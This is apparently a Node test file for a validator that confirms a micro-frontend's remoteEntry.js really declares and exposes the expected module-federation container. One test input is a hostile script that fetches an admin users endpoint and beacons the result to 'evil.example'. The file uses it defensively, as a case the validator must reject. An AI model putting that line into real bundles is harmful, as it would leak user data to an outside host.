import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { containerEntry } from '../../testing/remote-bundles.js';
import { containerProblems } from './container-entry.js';

const problemsOf = (text: string) => containerProblems('remoteEntry.js', text, 'mfe_timeline', ['./routes']);

describe('the entry of a version', () => {
  it('is the container of a real build: its global declared and set, its exposed modules mapped', () => {
    assert.deepEqual(problemsOf(containerEntry('mfe_timeline')), []);
    // The window, self and global library types set a property of the global object instead.
    assert.deepEqual(problemsOf(`(()=>{var n={'./routes':()=>0};self["mfe_timeline"]={get:e=>n[e]()}})();`), []);
  });

  it('is refused when it is any other script', () => {
    assert.deepEqual(problemsOf('fetch("/api/admin/users").then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, "https://evil.example"));'), [
      'Its entry remoteEntry.js does not declare the container mfe_timeline: it is not the remoteEntry.js of this build.',
      'Its entry remoteEntry.js does not expose ./routes, which its mf-manifest.json lists.',
    ]);
    assert.equal(problemsOf('var mfe_timeline;').length, 2, 'declared, never set, and nothing exposed');
    assert.equal(problemsOf('var mfe_timeline; mfe_timeline = {}; console.log("./routes");').length, 1, 'the key named, not mapped');
    assert.equal(problemsOf(containerEntry('mfe_admin')).length, 1, "another remote's container");
    assert.equal(problemsOf(containerEntry('mfe_timeline', ['./other'])).length, 1);
  });
});
